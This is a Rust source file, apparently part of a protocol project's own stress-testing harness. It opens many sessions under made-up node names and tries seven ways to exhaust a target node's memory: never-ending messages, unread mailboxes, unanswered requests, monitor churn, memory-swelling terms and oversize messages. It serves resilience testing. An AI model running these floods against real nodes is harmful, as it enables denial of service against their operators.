//! What one holder of the cookie can do: many sessions under made-up names, each with a way of its own to cost memory.

use super::Result;
use super::peer::{LANES, Message, Peer, write};
use super::victim::Ask;
use std::collections::VecDeque;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};
use teleport::etf::{Reference, to_segments};
use teleport::{Atom, NodeName, Pid, Term};
use teleport_proto::wire::envelope::{Kind, RefId};
use teleport_proto::wire::pool::Class;

/// Sessions that are tried for: more than a node takes from one address.
const SESSIONS: usize = 1500;

/// What a session says that it needs, and what one of those that come with the largest messages does.
const LARGE: u64 = 4 << 20;
const LARGEST: u64 = 256 << 20;

/// What it has come to.
#[derive(Debug, Default)]
pub(crate) struct Figures {
    /// Sessions opened, and refused.
    pub(crate) sessions: u64,
    pub(crate) refused: u64,
    /// Those that the victim has ended.
    pub(crate) lost: u64,
    /// Bytes that the victim has read, about.
    pub(crate) bytes: u64,
}

impl Figures {
    pub(crate) fn parse(said: &str) -> Self {
        let mut numbers = said.trim().split(' ').map(|number| number.parse().unwrap_or_default());
        let mut next = || numbers.next().unwrap_or_default();
        Self { sessions: next(), refused: next(), lost: next(), bytes: next() }
    }
}

#[derive(Default)]
struct Counters {
    sessions: AtomicU64,
    refused: AtomicU64,
    lost: AtomicU64,
    bytes: AtomicU64,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Way {
    /// Messages that wait for what never comes, messages and batches that never end.
    Windows,
    /// Messages for a process that reads none.
    Mailbox,
    /// Requests and monitors whose answers it does not take.
    Answers,
    /// Monitors that begin and end, and some that stay.
    Watches,
    /// Terms that take far more memory than bytes.
    Terms,
    /// Nothing more than a session.
    Sessions,
    /// A message as large as any may be, but for its end.
    Oversize,
}

impl Way {
    fn parse(name: &str) -> Result<Self> {
        Ok(match name {
            "windows" => Self::Windows,
            "mailbox" => Self::Mailbox,
            "answers" => Self::Answers,
            "watches" => Self::Watches,
            "terms" => Self::Terms,
            "sessions" => Self::Sessions,
            "oversize" => Self::Oversize,
            other => return Err(format!("{other} is no way to attack").into()),
        })
    }
}

/// `attack <name> <ip>:<port> <seconds> <ways>`.
pub(crate) async fn run(mut arguments: VecDeque<String>) -> Result<()> {
    let mut next = || arguments.pop_front().ok_or("siege attack takes four arguments");
    let (node, address): (NodeName, SocketAddr) = (next()?.parse()?, next()?.parse()?);
    let end = Instant::now() + Duration::from_secs(next()?.parse()?);
    let ways = next()?.split(',').map(Way::parse).collect::<Result<Vec<_>>>()?;
    let counters = Arc::new(Counters::default());
    let mut tasks = Vec::new();
    for number in 0..SESSIONS {
        let (node, counters, way) = (node.clone(), counters.clone(), ways[number % ways.len()]);
        tasks.push(tokio::spawn(async move {
            let (mut life, needs) = (0, if way == Way::Oversize { LARGEST } else { LARGE });
            while Instant::now() < end {
                life += 1;
                let name = format!("x{number}.{life}@127.0.0.2").replace('.', "_");
                let name = name.replace("127_0_0_2", "127.0.0.2");
                let Ok(peer) = Peer::open(&name, &node, address, needs, 0).await else {
                    counters.refused.fetch_add(1, Ordering::Relaxed);
                    tokio::time::sleep(Duration::from_millis(500)).await;
                    continue;
                };
                counters.sessions.fetch_add(1, Ordering::Relaxed);
                let deadline = tokio::time::Instant::from_std(end);
                let _ended = tokio::time::timeout_at(deadline, attack(&peer, way, &counters.bytes)).await;
                while Instant::now() < end && !peer.has_ended() {
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
                counters.lost.fetch_add(peer.has_ended().into(), Ordering::Relaxed);
            }
        }));
        if number % 16 == 0 {
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }
    for task in tasks {
        task.await?;
    }
    let figure = |counter: &AtomicU64| counter.load(Ordering::Relaxed);
    let Counters { sessions, refused, lost, bytes } = &*counters;
    println!("{} {} {} {}", figure(sessions), figure(refused), figure(lost), figure(bytes));
    Ok(())
}

async fn attack(peer: &Peer, way: Way, bytes: &AtomicU64) -> Result<()> {
    match way {
        Way::Windows => fill_windows(peer, bytes).await,
        Way::Mailbox => fill_mailbox(peer, bytes).await,
        Way::Answers => ask(peer, bytes).await,
        Way::Watches => watch(peer, bytes).await,
        Way::Terms => swell(peer, bytes).await,
        Way::Sessions => Ok(()),
        Way::Oversize => begin_largest(peer, bytes).await,
    }
}

fn plain(to: &'static str) -> Message<'static> {
    Message { to, kind: Kind::Data, acknowledge: false, account: 0, held: false }
}

fn reference(peer: &Peer) -> RefId {
    RefId::new(&[peer.reference(), 7]).unwrap_or_else(|| unreachable!("two words"))
}

fn count(bytes: &AtomicU64, written: u64) {
    bytes.fetch_add(written, Ordering::Relaxed);
}

/// Never comes to an end: whatever is granted later is filled, too.
async fn fill_windows(peer: &Peer, bytes: &AtomicU64) -> Result<()> {
    let (mut express, mut bulk) = (peer.join(Class::Express).await?, peer.join(Class::Bulk).await?);
    let body = vec![7; 32 * 1024];
    let kind = |exempt| if exempt { Kind::Reply(reference(peer)) } else { Kind::Data };
    let mut partial = vec![0; 1 << 20];
    partial[..8].copy_from_slice(&[0, 1, 0, 0, 1, 0, 0, 1]);
    let mut begun = Vec::new();
    loop {
        for exempt in LANES {
            while peer.room(exempt, Class::Express) > 2 * (body.len() as u64 + 128) {
                let message = || Message { kind: kind(exempt), held: true, ..plain("taker") };
                count(bytes, write(&mut express, &peer.batch(1, &body, message)).await?);
            }
            let room = peer.room(exempt, Class::Bulk);
            if room > 128 * 1024 {
                let message = Message { kind: kind(exempt), ..plain("taker") };
                let len = (room - 128).min(LARGE) as usize;
                count(bytes, peer.large(&mut bulk, &vec![7; len], false, message).await?);
            }
        }
        if begun.is_empty() {
            let mut express = peer.join(Class::Express).await?;
            count(bytes, write(&mut express, &partial[..60_000]).await?);
            begun.push(express);
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

async fn fill_mailbox(peer: &Peer, bytes: &AtomicU64) -> Result<()> {
    let (mut express, mut bulk) = (peer.join(Class::Express).await?, peer.join(Class::Bulk).await?);
    let body = vec![7; 32 * 1024];
    loop {
        while peer.room(false, Class::Express) > body.len() as u64 + 128 {
            let message = || Message { account: 1, ..plain("sink") };
            count(bytes, write(&mut express, &peer.batch(1, &body, message)).await?);
        }
        while let room @ 131_072.. = peer.room(false, Class::Bulk) {
            let len = (room - 128).min(LARGE) as usize;
            let message = Message { account: 1, ..plain("sink") };
            count(bytes, peer.large(&mut bulk, &vec![7; len], true, message).await?);
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// A request as of `gen_server:call/2`.
///
/// The asker's name cannot be checked: every other one comes from a node that there is not.
fn request(peer: &Peer, name: RefId, ask: &Ask) -> Result<Vec<u8>> {
    let nobody = name.words()[0].is_multiple_of(2);
    let node = Atom::new(if nobody { "nobody@127.0.0.2" } else { peer.name() })?;
    let caller = Pid { node: node.clone(), id: 1, serial: 0, creation: 77 };
    let words: Vec<u32> = name.words().to_vec();
    let name = Reference::new(node, 77, &words).ok_or("a reference")?;
    let tag = Term::improper_list(vec![Term::Atom(Atom::from_static("alias"))], Term::from(name));
    let from = Term::tuple(vec![Term::from(caller), tag]);
    let request = (Atom::from_static("$gen_call"), from, ask);
    Ok(to_segments(&request)?.into_contiguous().to_vec())
}

async fn ask(peer: &Peer, bytes: &AtomicU64) -> Result<()> {
    let mut express = peer.join(Class::Express).await?;
    let _bulk = peer.join(Class::Bulk).await?;
    loop {
        for ask in [Ask::Blob(1 << 20), Ask::Blob(4 << 20), Ask::Blob(40_000)] {
            if peer.room(false, Class::Express) > 1024 {
                let name = reference(peer);
                let body = request(peer, name, &ask)?;
                let message = || Message { kind: Kind::Request(name), ..plain("store") };
                count(bytes, write(&mut express, &peer.batch(1, &body, message)).await?);
            }
        }
        if peer.room(false, Class::Express) > 140 * 100 {
            let message = || Message { acknowledge: true, ..plain("nobody") };
            count(bytes, write(&mut express, &peer.batch(100, &[131, 106], message)).await?);
        }
        if peer.room(true, Class::Express) > 140 * 100 {
            let message = || Message { kind: Kind::Monitor(reference(peer)), ..plain("nobody") };
            count(bytes, write(&mut express, &peer.batch(100, &[], message)).await?);
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

async fn watch(peer: &Peer, bytes: &AtomicU64) -> Result<()> {
    let mut express = peer.join(Class::Express).await?;
    loop {
        if peer.room(true, Class::Express) > 300 * 128 {
            let names: Vec<RefId> = (0..100).map(|_| reference(peer)).collect();
            for (kind, share) in [(0, 10), (1, 9)] {
                for &name in names.iter().take(share * 10) {
                    let kind = if kind == 0 { Kind::Monitor(name) } else { Kind::Demonitor(name) };
                    let message = || Message { kind, ..plain("desk") };
                    count(bytes, write(&mut express, &peer.batch(1, &[], message)).await?);
                }
            }
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

/// A map of many pairs, and a list of empty lists, in this many bytes.
fn swollen(len: usize, map: bool) -> Vec<u8> {
    let mut term = vec![131];
    let size = |term: &mut Vec<u8>, tag: u8, n: usize| {
        term.push(tag);
        term.extend_from_slice(&(n as u32).to_be_bytes());
    };
    if map {
        let pairs = len / 6;
        size(&mut term, 116, pairs);
        for key in 0..pairs as u32 {
            term.push(98);
            term.extend_from_slice(&key.to_be_bytes());
            term.push(106);
        }
    } else {
        size(&mut term, 108, len);
        term.resize(term.len() + len + 1, 106);
    }
    term
}

async fn swell(peer: &Peer, bytes: &AtomicU64) -> Result<()> {
    let (mut express, mut bulk) = (peer.join(Class::Express).await?, peer.join(Class::Bulk).await?);
    let mut map = false;
    loop {
        map = !map;
        if peer.room(false, Class::Express) > 61_000 {
            let body = swollen(60_000, map);
            let message = || plain("taker");
            count(bytes, write(&mut express, &peer.batch(1, &body, message)).await?);
        }
        let room = peer.room(false, Class::Bulk).min(8 << 20);
        if room > 1 << 20 {
            let body = swollen(room as usize - 1000, map);
            count(bytes, peer.large(&mut bulk, &body, true, plain("taker")).await?);
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

async fn begin_largest(peer: &Peer, bytes: &AtomicU64) -> Result<()> {
    let mut bulk = peer.join(Class::Bulk).await?;
    while peer.room(false, Class::Bulk) < LARGEST {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let body = vec![7; LARGEST as usize - 128];
    count(bytes, peer.large(&mut bulk, &body, false, plain("taker")).await?);
    std::mem::forget(bulk);
    Ok(())
}
